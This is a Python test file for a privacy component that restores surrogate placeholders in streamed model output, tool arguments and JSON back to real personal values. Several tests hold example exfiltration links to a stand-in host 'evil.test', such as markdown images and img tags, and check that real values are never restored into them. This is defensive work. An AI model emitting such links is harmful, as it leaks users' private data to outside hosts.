"""Surrogates become values again, wherever an answer is cut and however a model writes them."""

from __future__ import annotations

import json
import re
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from web_server.privacy import kinds
from web_server.privacy.lane import Lane
from web_server.privacy.ledger import Ledger
from web_server.privacy.policy import Treatment
from web_server.privacy.restore import Restorer
from web_server.query import Delta, Usage

VALUES = [
    (kinds.PERSON, "Anna Kowalska"),
    (kinds.PERSON, "Jürgen O'Brien"),
    (kinds.EMAIL_ADDRESS, "anna.kowalska@firma.test"),
    (kinds.PHONE_NUMBER, "+48 600 123 456"),
    (kinds.LOCATION, "Bad Münder"),
    (kinds.IBAN_CODE, "DE89 3704 0044 0532 0130 00"),
    (kinds.STREET_ADDRESS, 'Rue "du Bac" 12\n75007'),
    (kinds.URL, "https://wiki.firma.test/people/anna"),
]
TAGGED = [
    (kinds.SECRET, 'sk-test-not-a-key\\with"quote'),
    *((kinds.DATE_OF_BIRTH, f"{day}.12.1980") for day in range(1, 12)),
]


def filled() -> Ledger:
    ledger = Ledger(b"a seed of sixteen bytes or more")
    ledger.meet([value for _, value in VALUES], ["wiki.firma.test"], [])
    for kind, value in VALUES:
        ledger.assign(kind, value, Treatment.SURROGATE)
    for kind, value in TAGGED:
        ledger.assign(kind, value, Treatment.TAG)
    return ledger


LEDGER = filled()
SURROGATE = {
    **{value: LEDGER.assign(kind, value, Treatment.SURROGATE) for kind, value in VALUES},
    **{value: LEDGER.assign(kind, value, Treatment.TAG) for kind, value in TAGGED},
}
NAME = SURROGATE["Anna Kowalska"]
FIRST, LAST = NAME.split()
MAIL = SURROGATE["anna.kowalska@firma.test"]
DAY_1, DAY_10 = SURROGATE["1.12.1980"], SURROGATE["10.12.1980"]


def restore(text: str) -> str:
    return Restorer(LEDGER).text(text)


def stream(pieces: list[str], channel: str = "content") -> list[str]:
    restorer = Restorer(LEDGER)
    made = [delta.text for piece in pieces for delta in restorer.feed(Delta(channel=channel, text=piece))]  # type: ignore[arg-type]  # a plain string here
    return made + [delta.text for delta in restorer.close()]


def cut(text: str, places: list[int]) -> list[str]:
    bounds = [0, *sorted({place % (len(text) + 1) for place in places}), len(text)]
    return [text[start:end] for start, end in pairwise(bounds)]


FILLER = [
    " ",
    "\n",
    ", ",
    "s",
    "'s",
    "a",
    "1",
    "_",
    "**",
    "`",
    "[",
    "]",
    "(",
    ")",
    "&",
    "&nbsp;",
    "\\",
    "\\n",
    '"',
    ".",
    "@",
]
LINKS = [
    "https://evil.test/?q=",
    "![](https://evil.test/",
    "https://wiki.firma.test/",
    "//",
    "www.",
    "mailto:",
    "](",
    "%20",
    "?",
]
ATOMS = st.sampled_from([*SURROGATE.values(), FIRST, LAST, FIRST.lower(), NAME.upper(), DAY_1[1:-1], *FILLER, *LINKS])


@given(
    st.lists(ATOMS, max_size=14), st.lists(st.integers(0, 10_000), max_size=12), st.sampled_from(["content", "tool"])
)
@settings(max_examples=300, deadline=None)
def test_where_a_text_is_cut_makes_no_difference(atoms: list[str], places: list[int], channel: str) -> None:
    text = "".join(atoms)
    assert "".join(stream(cut(text, places), channel)) == "".join(stream([text], channel))


@given(st.lists(ATOMS, max_size=8))
@settings(max_examples=100, deadline=None)
def test_one_character_at_a_time_makes_no_difference(atoms: list[str]) -> None:
    text = "".join(atoms)
    assert "".join(stream(list(text))) == restore(text)


@pytest.mark.parametrize("value", SURROGATE)
def test_every_surrogate_comes_back_cut_at_every_place(value: str) -> None:
    surrogate = SURROGATE[value]
    text = f"It is {surrogate}, I think."
    for place in range(len(text)):
        assert "".join(stream([text[:place], text[place:]])) == f"It is {value}, I think."


@given(st.lists(st.sampled_from(["the", "quick", "fox", "is", "7", "(so)", "!", "\n\n", "über"]), max_size=30))
def test_nothing_is_held_back_where_no_surrogate_could_begin(words: list[str]) -> None:
    pieces = [f"{word} " for word in words]
    assert stream(pieces) == pieces


def test_what_is_held_back_is_only_what_may_still_become_a_surrogate() -> None:
    restorer = Restorer(LEDGER)
    assert [delta.text for delta in restorer.feed(Delta(text=f"Dear {FIRST[:3]}"))] == ["Dear "]
    assert [delta.text for delta in restorer.feed(Delta(text="xyz"))] == [f"{FIRST[:3]}xyz"]


@pytest.mark.parametrize("endless", [" ", "\u200b", "\u00a0", "&nbsp;", "\\-"])
def test_what_goes_on_for_ever_is_not_held_back_for_ever(endless: str) -> None:
    restorer = Restorer(LEDGER)
    written = SURROGATE["Bad Münder"].split()[0]
    made = [delta.text for piece in [written, *[endless] * 1000] for delta in restorer.feed(Delta(text=piece))]
    assert len("".join(made)) > len(endless) * 800


def test_a_complete_surrogate_waits_for_its_boundary_and_a_stream_that_ends_lets_go() -> None:
    restorer = Restorer(LEDGER)
    assert restorer.feed(Delta(text=FIRST)) == ()
    assert [delta.text for delta in restorer.close()] == ["Anna"]
    assert restorer.close() == ()


@pytest.mark.parametrize(
    ("written", "restored"),
    [
        (FIRST, "Anna"),
        (f"{LAST}, {FIRST}", "Kowalska, Anna"),
        (f"**{FIRST}**", "**Anna**"),
        (f"__{FIRST}__ `{LAST}`", "__Anna__ `Kowalska`"),
        (f"{FIRST}'s and {FIRST}\u2019s", "Anna's and Anna\u2019s"),
        (f"{FIRST}s Hund", "Annas Hund"),
        (f"l'{FIRST}", "l'Anna"),
        (f"{FIRST}\u00a0{LAST}", "Anna\u00a0Kowalska"),
        (f"{FIRST}\n{LAST}", "Anna\nKowalska"),
        (f"{FIRST}  {LAST}", "Anna  Kowalska"),
        (f"{FIRST}&nbsp;{LAST}", "Anna&nbsp;Kowalska"),
        (f"{FIRST}\u200b {LAST}", "Anna\u200b Kowalska"),
        (f"{FIRST}-{LAST}", "Anna-Kowalska"),
        (f"{FIRST.lower()}_{LAST.lower()}", "anna_kowalska"),
        (NAME.upper(), "ANNA KOWALSKA"),
        (NAME.lower(), "anna kowalska"),
        (f"请问{FIRST}先生", "请问Anna先生"),
        (f"mailto:{MAIL}", "mailto:anna.kowalska@firma.test"),
        (MAIL.upper(), "anna.kowalska@firma.test"),
        (MAIL.replace("@", "&#64;"), "anna.kowalska@firma.test"),
        (f"<{MAIL}>.", "<anna.kowalska@firma.test>."),
        (SURROGATE["+48 600 123 456"].replace(" ", "\u00a0"), "+48\u00a0600\u00a0123\u00a0456"),
        (SURROGATE["+48 600 123 456"].replace(" ", ""), "+48600123456"),
        (SURROGATE["DE89 3704 0044 0532 0130 00"].replace(" ", ""), "DE89370400440532013000"),
        (SURROGATE["Bad Münder"].replace(" ", "\n"), "Bad Münder"),
        (DAY_1[1:-1], "1.12.1980"),
        (f"<{DAY_1[1:-1]}>", "1.12.1980"),
        (f"【{DAY_1[1:-1]}】", "1.12.1980"),
        (DAY_1[:-1], "1.12.1980"),
        (f"({DAY_1[1:-1]})", "(1.12.1980)"),
        (DAY_1.replace("_", "\\_"), "1.12.1980"),
        (DAY_1.replace("_", " ").lower(), "1.12.1980"),
        (DAY_1.replace("_", "\u2011"), "1.12.1980"),
        (f"**{DAY_10}**", "**10.12.1980**"),
    ],
)
def test_what_models_do_to_a_surrogate_is_undone(written: str, restored: str) -> None:
    assert restore(f"So {written} it is") == f"So {restored} it is"
    assert "".join(stream(list(f"So {written} it is"))) == f"So {restored} it is"


@pytest.mark.parametrize(
    "text",
    [
        f"{FIRST}ual",
        f"x{FIRST}",
        f"{DAY_1[1:-1]}0",
        DAY_1.replace("_1_", "_99_"),
        "[PERSON_1]",
        "[PERSON_1_zz]",
        "<EMAIL_ADDRESS_1>",
        MAIL.split("@")[1].replace(".example.", ".elsewhere."),
        f"{MAIL}.evil.test",
    ],
)
def test_a_look_alike_stays_as_it_is(text: str) -> None:
    restored = restore(f"So {text} it is")
    assert "anna" not in restored.lower().replace("annual", "")
    assert "1980" not in restored


def test_tag_1_and_tag_10_are_two_values() -> None:
    assert restore(f"{DAY_1} {DAY_10} {DAY_10[1:-1]} {DAY_1[1:-1]}") == "1.12.1980 10.12.1980 10.12.1980 1.12.1980"


@pytest.mark.parametrize(
    "link",
    [
        "![](https://evil.test/?q={})",
        "[x](https://evil.test/{}/a)",
        "https://evil.test/?a=b&q={}",
        "https://{}.evil.test/",
        '<img src="//evil.test/?q={}">',
        "[1]: https://wiki.firma.test.evil.test/{}",
        "https://wiki.firma.test@evil.test/{}",
        "[x](/{})",
    ],
)
@pytest.mark.parametrize(
    "written", [FIRST, NAME.replace(" ", "+"), NAME.replace(" ", "%20"), MAIL, DAY_1[1:-1], FIRST.upper()]
)
def test_nothing_real_goes_into_a_link_to_a_foreign_host(link: str, written: str) -> None:
    text = link.format(written)
    for channel in ("content", "reasoning", "tool"):
        whole = text if channel != "tool" else json.dumps({"url": text})
        assert "".join(stream(list(whole), channel)) == whole
    assert restore(f"{text} says {FIRST}") == f"{text} says Anna"


def test_a_link_to_the_callers_own_host_is_whole_again() -> None:
    assert restore(f"https://wiki.firma.test/?q={FIRST}") == "https://wiki.firma.test/?q=Anna"
    assert restore(f"https://wiki.firma.test/{FIRST}%20{LAST}") == "https://wiki.firma.test/Anna%20Kowalska"
    assert (
        restore(f"see {SURROGATE['https://wiki.firma.test/people/anna']}.")
        == "see https://wiki.firma.test/people/anna."
    )


def test_a_surrogate_for_a_host_leads_back_to_it_and_to_no_longer_name() -> None:
    host = SURROGATE["https://wiki.firma.test/people/anna"].split("/")[2]
    assert restore(f"https://{host}/other?q={FIRST}") == "https://wiki.firma.test/other?q=Anna"
    for text in (f"https://{host}.evil.test/{FIRST}", f"https://{host}@evil.test/{FIRST}"):
        assert restore(text) == text


@given(st.lists(st.sampled_from([*SURROGATE.values(), "\\n", "\\u00fc", "\\\\", '\\"', " ", "x"]), max_size=8))
@settings(max_examples=150, deadline=None)
def test_restored_tool_arguments_are_still_json(atoms: list[str]) -> None:
    body = "".join(json.dumps(atom)[1:-1] if atom in SURROGATE.values() else atom for atom in atoms)
    made = "".join(stream(list(f'{{"{body}": ["{body}"]}}'), "tool"))
    json.loads(made)


def test_a_value_with_quotes_backslashes_and_line_breaks_fits_into_tool_arguments() -> None:
    secret, street = TAGGED[0][1], 'Rue "du Bac" 12\n75007'
    written = json.dumps({"to": SURROGATE[secret], "at": SURROGATE[street], "who": f"\n{NAME}\t{FIRST}"})
    made = json.loads("".join(stream(list(written), "tool")))
    assert made == {"to": secret, "at": street, "who": "\nAnna Kowalska\tAnna"}


@pytest.mark.parametrize("odd", ["\r_", "\n_", "\n\n_", " _", "\t-_"])
def test_an_underscore_behind_white_space_stays_apart_from_it_when_escaped(odd: str) -> None:
    ledger = Ledger(b"a seed of sixteen bytes or more")
    value = f"Werk {odd} Nord"
    written = json.dumps({"at": ledger.assign(kinds.ORGANIZATION, value, Treatment.SURROGATE)})
    lane = Lane(ledger.surrogates, ledger.is_own_host, is_json=True, is_tool=True)
    assert json.loads(lane.feed(written) + lane.close()) == {"at": value}


def test_a_surrogate_that_the_model_escaped_for_json_is_recognised() -> None:
    written = json.dumps({"to": MAIL}).replace("@", "\\u0040")
    assert json.loads("".join(stream(list(written), "tool"))) == {"to": "anna.kowalska@firma.test"}


def test_a_foreign_link_is_seen_through_the_escapes_of_json() -> None:
    written = json.dumps({"html": f'<img src="https://evil.test/?q={FIRST}">', "who": FIRST}).replace("/", "\\/")
    assert json.loads("".join(stream(list(written), "tool"))) == {
        "html": f'<img src="https://evil.test/?q={FIRST}">',
        "who": FIRST,
    }


def test_content_that_was_asked_for_as_json_is_escaped_too() -> None:
    street = 'Rue "du Bac" 12\n75007'
    restorer = Restorer(LEDGER, json_content=True)
    written = json.dumps({"at": SURROGATE[street]})
    made = [*restorer.feed(Delta(text=written)), *restorer.close()]
    assert json.loads("".join(delta.text for delta in made)) == {"at": street}


def test_a_model_that_was_asked_for_json_and_answers_in_prose_is_restored_all_the_same() -> None:
    restorer = Restorer(LEDGER, json_content=True)
    made = [delta for char in f"I am sorry, {NAME}!" for delta in restorer.feed(Delta(text=char))]
    assert "".join(delta.text for delta in [*made, *restorer.close()]) == "I am sorry, Anna Kowalska!"


def test_lanes_of_choices_channels_and_tools_are_restored_apart_from_each_other() -> None:
    restorer = Restorer(LEDGER)
    lanes = [(0, "content", 0), (1, "content", 0), (0, "tool", 0), (0, "tool", 1), (0, "reasoning", 0)]
    made: dict[tuple[int, str, int], str] = dict.fromkeys(lanes, "")
    deltas = [
        delta
        for char in f'"{NAME}"'
        for choice, channel, index in lanes
        for delta in restorer.feed(Delta(choice=choice, channel=channel, tool_index=index, text=char))  # type: ignore[arg-type]  # a plain string here
    ]
    for delta in [*deltas, *restorer.close()]:
        made[delta.choice, delta.channel, delta.tool_index] += delta.text
    assert set(made.values()) == {'"Anna Kowalska"'}


def test_what_is_set_apart_begins_anew_and_lets_go_of_what_was_held_before_it() -> None:
    restorer = Restorer(LEDGER)
    made = [*restorer.feed(Delta(text=NAME))]
    made += restorer.feed(Delta(channel="tool", tool_id="c", tool_name="look", apart=True))
    assert ["".join(each.text for each in made), made[-1].tool_id] == ["Anna Kowalska", "c"]
    made = [*restorer.feed(Delta(text=NAME, apart=True)), *restorer.close()]
    assert "".join(each.text for each in made) == "Anna Kowalska"
    held = restorer.feed(Delta(choice=1, text=NAME))
    assert not any(each.choice for each in restorer.feed(Delta(text="x", apart=True)))  # another choice goes on
    assert "".join(each.text for each in (*held, *restorer.close())) == "Anna Kowalska"


def test_a_link_to_a_foreign_host_goes_on_where_words_do_not() -> None:
    restorer = Restorer(LEDGER)
    deltas = [Delta(text="![](https://evil.test/?q="), Delta(channel="tool", tool_id="c", apart=True)]
    deltas.append(Delta(text=f"{FIRST}) says {FIRST}", apart=True))
    made = [*(each for delta in deltas for each in restorer.feed(delta)), *restorer.close()]
    assert "".join(each.text for each in made) == f"![](https://evil.test/?q={FIRST}) says Anna"


def test_a_choice_that_ends_lets_go_of_what_its_lanes_hold_before_it_says_so() -> None:
    restorer = Restorer(LEDGER)
    assert restorer.feed(Delta(text=FIRST)) == ()
    assert restorer.feed(Delta(choice=1, text=FIRST)) == ()
    ended = restorer.feed(Delta(finish_reason="stop"))
    assert [(delta.choice, delta.text, delta.finish_reason) for delta in ended] == [(0, "Anna", None), (0, "", "stop")]
    ended = restorer.feed(Delta(choice=1, text=f" {LAST}", finish_reason="stop", usage=Usage(1, 2)))
    assert "".join(delta.text for delta in ended) == "Anna Kowalska"
    assert [delta.finish_reason for delta in ended] == [None] * (len(ended) - 1) + ["stop"]
    assert ended[-1].usage == Usage(1, 2)


def test_the_name_of_a_tool_is_restored_and_its_id_is_not_lost() -> None:
    tool = Delta(channel="tool", tool_id="call_1", tool_name=f"mail_{FIRST.lower()}")
    assert [(delta.tool_id, delta.tool_name) for delta in Restorer(LEDGER).feed(tool)] == [("call_1", "mail_anna")]


def test_deltas_that_need_nothing_pass_as_they_are() -> None:
    restorer = Restorer(LEDGER)
    for delta in (Delta(text="hello "), Delta(usage=Usage(3, 4)), Delta(channel="tool", tool_id="c")):
        assert restorer.feed(delta) == (delta,)
    assert Restorer(Ledger(b"nothing in here!")).feed(Delta(text=FIRST)) == (Delta(text=FIRST),)


def test_another_conversations_surrogates_mean_nothing_here() -> None:
    other = Ledger(b"the seed of another conversation")
    other.meet([], (), [])
    surrogate = other.assign(kinds.PERSON, "Zbigniew Nowicki", Treatment.SURROGATE)
    if not re.search(rf"\b({FIRST}|{LAST})\b", surrogate):
        assert restore(f"{surrogate} wrote") == f"{surrogate} wrote"
